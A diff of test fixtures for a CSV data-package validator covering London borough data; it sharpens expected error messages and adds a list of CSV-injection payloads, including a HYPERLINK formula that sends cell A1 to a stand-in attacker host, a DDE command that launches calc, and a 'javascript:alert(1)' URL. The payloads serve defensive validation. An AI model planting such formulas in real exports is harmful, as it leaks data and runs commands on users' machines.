@@ -361,10 +361,10 @@ CASES: list[Case] = [
     Case("wrong type: boolean", "boroughs", _cell_case("boroughs", "in_nel", "yes", r"^boroughs\.csv:{line}:in_nel: wrong type: expected true or false, found 'yes'$")),
     Case("wrong type: date", "sources", _cell_case("sources", "date_retrieved", "25/11/2026", r"^sources\.csv:{line}:date_retrieved: wrong type: expected a date \(YYYY-MM-DD\)")),
     Case("wrong type: impossible date", "commitments", _cell_case("commitments", "last_updated", "2025-02-30", r"^commitments\.csv:{line}:last_updated: wrong type: expected a date")),
-    Case("required value missing", "pillars", _cell_case("pillars", "name", "", r"^pillars\.csv:{line}:name: required value is missing$")),
+    Case("required value missing", "pillars", _cell_case("pillars", "name", "", r"^pillars\.csv:{line}:name: required value is missing: fill in name$")),
     Case("unknown enum value", "wres", _cell_case("wres", "status", "estimated", r"^wres\.csv:{line}:status: unknown value 'estimated': expected one of published, illustrative$")),
-    Case("pattern mismatch", "boroughs", _cell_case("boroughs", "gss_code", "E9000001", r"^boroughs\.csv:{line}:gss_code: value 'E9000001' is not in the expected form$")),
-    Case("URL that is not http(s)", "sources", _cell_case("sources", "url", "javascript:alert(1)", r"^sources\.csv:{line}:url: value 'javascript:alert\(1\)' is not in the expected form$")),
+    Case("pattern mismatch", "boroughs", _cell_case("boroughs", "gss_code", "E9000001", r"^boroughs\.csv:{line}:gss_code: value 'E9000001' is not in the expected form: give the London borough's ONS code: E09 and six digits, e\.g\. E09000025 for Newham$")),
+    Case("URL that is not http(s)", "sources", _cell_case("sources", "url", "javascript:alert(1)", r"^sources\.csv:{line}:url: value 'javascript:alert\(1\)' is not in the expected form: give a web address that starts with http:// or https:// and has no spaces$")),
     Case("below the minimum", "workforce", _cell_case("workforce", "year", "1999", r"^workforce\.csv:{line}:year: out of range: 1999 is below the minimum 2000$")),
     Case("above the maximum", "remi", _cell_case("remi", "stage", "7", r"^remi\.csv:{line}:stage: out of range: 7 is above the maximum 6$")),
     Case("unique value repeated", "remi_stages", _cell_case("remi_stages", "stage", "1", r"^remi_stages\.csv:3:stage: duplicate value '1': must be unique$", line=3)),
@@ -562,3 +562,18 @@ def small_number_package(dest: Path | str) -> tuple[Path, list[SmallCell]]:
                                {"numerator": n, "denominator": d, "value": float(value)}, forbidden))
     write_rows(wres, header, rows)
     return pkg, cells
+
+
+# ---------------------------------------------------------------------------------------------
+# Spreadsheet formulas in text cells (OWASP CSV injection): (payload, the lead the fix names)
+
+
+FORMULA_PAYLOADS: list[tuple[str, str]] = [
+    (f'=HYPERLINK("http://{ATTACKER}/?leak="&A1,"x")', "="),
+    ("=cmd|' /C calc'!A0", "="),
+    ("@SUM(1+1)", "@"),
+    ("+1", "+"),
+    ("-x", "-"),
+    ("\tBoard paper", "tab"),
+    ("\rBoard paper", "carriage return"),
+]
